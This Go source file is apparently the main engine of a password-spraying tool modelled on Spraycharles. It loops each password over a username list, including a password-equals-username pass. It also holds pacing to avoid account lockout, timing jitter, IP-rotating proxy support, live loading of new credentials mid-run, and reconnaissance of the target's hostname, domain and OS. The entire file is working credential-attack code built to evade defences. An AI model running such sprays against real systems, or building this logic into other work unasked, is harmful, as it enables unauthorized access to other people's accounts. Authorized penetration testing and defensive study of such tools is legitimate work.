package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"github.com/cheggaaa/pb/v3"
	"github.com/manifoldco/promptui"
	"github.com/olekukonko/tablewriter"
	"github.com/sirupsen/logrus"
)

// progressBar is the attempt progress surface. The screen bar is swapped
// for a no-op when output is quieted.
type progressBar interface {
	Increment()
	Finish()
}

type screenBar struct{ bar *pb.ProgressBar }

func (b screenBar) Increment() { b.bar.Increment() }
func (b screenBar) Finish()    { b.bar.Finish() }

type noopBar struct{}

func (noopBar) Increment() {}
func (noopBar) Finish()    {}

// Spraycharles sequences every attempt of a run: the optional equal pass,
// then the password-by-username double loop, coordinating pacing,
// credential reload, jitter and retry. Execution is single threaded:
// concurrent attempts would break the lockout-avoidance pacing.
type Spraycharles struct {
	cfg Config

	usernames []string
	passwords []string

	userSource credentialSource
	passSource credentialSource

	target  Target
	client  *loginClient
	gate    *analysisGate
	jitter  *jitterController
	writer  *resultWriter
	results *analyzer

	log     *logrus.Logger
	logFile *os.File
	logPath string
	outPath string

	state   sprayState
	confirm func(string)
	newBar  func(total int, label string) progressBar
}

// NewSpraycharles wires a run together: working directories, the per-run
// logfile, the result artifact, and the resolved target module. An
// unrecognized module name is rejected here, before any attempt can be
// made.
func NewSpraycharles(cfg Config, users, passwords credentialSource) (*Spraycharles, error) {
	factory, err := lookupTarget(cfg.Module)
	if err != nil {
		return nil, err
	}
	target, err := factory(cfg.Host, cfg.Port, cfg.Timeout, cfg.Proxy, cfg.Fireprox)
	if err != nil {
		return nil, err
	}

	if pt, ok := target.(pathTarget); ok {
		if cfg.Path == "" {
			return nil, fmt.Errorf("module %q requires --path", cfg.Module)
		}
		pt.SetPath(cfg.Path)
	}
	if cfg.NoSSL {
		if plain, ok := target.(plainTarget); ok {
			plain.SetPlainTransport()
		}
	}

	logsDir, outDir, err := workDirs()
	if err != nil {
		return nil, err
	}

	outPath := cfg.Output
	if outPath == "" {
		outPath = defaultOutput(outDir, cfg.Host)
	}
	writer, err := newResultWriter(outPath, cfg.Module, cfg.Host)
	if err != nil {
		return nil, err
	}

	logPath := logName(logsDir, cfg.Host)
	log, logFile, err := newRunLogger(logPath, cfg.Debug)
	if err != nil {
		writer.Close()
		return nil, err
	}

	s := &Spraycharles{
		cfg:        cfg,
		usernames:  users.values,
		passwords:  passwords.values,
		userSource: users,
		passSource: passwords,
		target:     target,
		writer:     writer,
		log:        log,
		logFile:    logFile,
		logPath:    logPath,
		outPath:    outPath,
		confirm:    confirmPrompt,
	}
	s.client = newLoginClient(target, writer, log, cfg.Echo(), cfg.MaxRetries)
	s.jitter = newJitterController(cfg.JitterMin, cfg.JitterMax, log)
	s.results = newAnalyzer(cfg, outPath, log)
	s.gate = newAnalysisGate(cfg, s.results.Analyze, confirmPrompt, log)

	s.newBar = func(total int, label string) progressBar {
		if !cfg.Echo() {
			return noopBar{}
		}
		bar := pb.New(total)
		bar.Set("prefix", label+" ")
		bar.Start()
		return screenBar{bar: bar}
	}
	return s, nil
}

// Close releases the run's file handles.
func (s *Spraycharles) Close() {
	s.writer.Close()
	s.logFile.Close()
}

// Run drives the whole spray to completion and finishes with one final
// unconditional analysis pass.
func (s *Spraycharles) Run() error {
	s.preSprayInfo()

	if err := s.probeTarget(); err != nil {
		return err
	}

	if s.cfg.Echo() {
		if ht, ok := s.target.(headerTarget); ok {
			ht.PrintHeaderBanner()
		}
	}

	if s.cfg.Equal {
		if err := s.sprayEqual(); err != nil {
			return err
		}
	}

	// Index loop: the password list may grow while the run is in flight.
	for i := 0; i < len(s.passwords); i++ {
		if err := s.gate.check(&s.state); err != nil {
			return err
		}
		s.refreshLists()

		if err := s.sprayRound(s.passwords[i]); err != nil {
			return err
		}
		s.state.attempts++
	}

	s.log.Info("Spray complete!")
	_, err := s.results.Analyze(s.state.totalHits)
	return err
}

// probeTarget establishes the session for connection-oriented protocols
// before the loop starts. A failed probe aborts the run.
func (s *Spraycharles) probeTarget() error {
	probe, ok := s.target.(connTarget)
	if !ok {
		return nil
	}

	s.log.Infof("Initiating %s connection to %s", strings.ToUpper(s.cfg.Module), s.cfg.Host)
	if err := probe.EstablishConnection(); err != nil {
		s.log.Warnf("Failed to connect to %s over %s", s.cfg.Host, strings.ToUpper(s.cfg.Module))
		return fmt.Errorf("failed to connect to %s: %w", s.cfg.Host, err)
	}
	s.log.Infof("Connected to %s over %s", s.cfg.Host, probe.Dialect())
	if hostname := probe.Hostname(); hostname != "" {
		s.log.Infof("Hostname: %s", hostname)
	}
	if domain := probe.Domain(); domain != "" {
		s.log.Infof("Domain: %s", domain)
	}
	if osVersion := probe.OS(); osVersion != "" {
		s.log.Infof("OS: %s", osVersion)
	}
	return nil
}

// sprayEqual attempts each username with a password equal to its local
// part (text before the first @, tolerating email-style usernames). The
// whole pass consumes a single unit of the attempt budget, the same
// accounting as one password round.
func (s *Spraycharles) sprayEqual() error {
	bar := s.newBar(len(s.usernames), "Password = Username")
	for i, username := range s.usernames {
		if i > 0 {
			s.jitter.Wait()
		}
		password := strings.SplitN(username, "@", 2)[0]

		if err := s.client.Attempt(username, password); err != nil {
			return err
		}
		bar.Increment()
		s.log.Infof("Login attempted as %s", username)
	}
	bar.Finish()

	s.state.attempts++
	return nil
}

// refreshLists merges entries appended to the source files since the last
// round. Entries already in play are never removed or reordered, so an
// operator can feed a running spray without disturbing it.
func (s *Spraycharles) refreshLists() {
	newUsers := s.userSource.reload(s.usernames)
	newPasswords := s.passSource.reload(s.passwords)

	if len(newUsers) > 0 {
		s.log.Infof("Adding %d new users into the spray!", len(newUsers))
		s.usernames = append(s.usernames, newUsers...)
	}
	if len(newPasswords) > 0 {
		s.log.Infof("Adding %d new passwords to the end of the spray!", len(newPasswords))
		s.passwords = append(s.passwords, newPasswords...)
	}
	if s.cfg.Echo() && (len(newUsers) > 0 || len(newPasswords) > 0) {
		fmt.Println()
	}
}

// sprayRound attempts one password against every username, including any
// merged in just before this round. With the equal pass enabled every
// attempt gets jitter, even the round's first.
func (s *Spraycharles) sprayRound(password string) error {
	bar := s.newBar(len(s.usernames), "Spraying: "+password)
	for i, username := range s.usernames {
		if s.cfg.Equal || i > 0 {
			s.jitter.Wait()
		}

		if s.cfg.Domain != "" {
			username = s.cfg.Domain + `\` + username
		}

		if err := s.client.Attempt(username, password); err != nil {
			return err
		}
		bar.Increment()
		s.log.Infof("Login attempted as %s", username)
	}
	bar.Finish()
	return nil
}

// preSprayInfo shows the run configuration and waits for the operator to
// start the spray.
func (s *Spraycharles) preSprayInfo() {
	if !s.cfg.Echo() {
		return
	}

	fmt.Printf("Module: %s - %s\n", strings.ToUpper(s.cfg.Module), s.target.Description())

	table := tablewriter.NewWriter(os.Stdout)
	table.Append([]string{"Target", fmt.Sprintf("%s:%d", s.cfg.Host, s.cfg.Port)})
	if s.cfg.Domain != "" {
		table.Append([]string{"Domain", s.cfg.Domain})
	}
	if s.cfg.Attempts > 0 {
		table.Append([]string{"Interval", fmt.Sprintf("%d minutes", s.cfg.Interval)})
		table.Append([]string{"Attempts", fmt.Sprintf("%d per interval", s.cfg.Attempts)})
	}
	if s.jitter.enabled() {
		table.Append([]string{"Jitter", fmt.Sprintf("%d-%d seconds", s.cfg.JitterMin, s.cfg.JitterMax)})
	}
	if s.cfg.Notify != "" {
		table.Append([]string{"Notify", s.cfg.Notify})
	}
	table.Append([]string{"Usernames", strconv.Itoa(len(s.usernames))})
	table.Append([]string{"Passwords", strconv.Itoa(len(s.passwords))})
	table.Append([]string{"Logfile", s.logPath})
	table.Append([]string{"Results", s.outPath})
	table.Render()

	fmt.Println()
	s.confirm("Press enter to begin")
	fmt.Println()
}

// confirmPrompt blocks until the operator acknowledges.
func confirmPrompt(label string) {
	prompt := promptui.Prompt{Label: label}
	_, _ = prompt.Run()
}
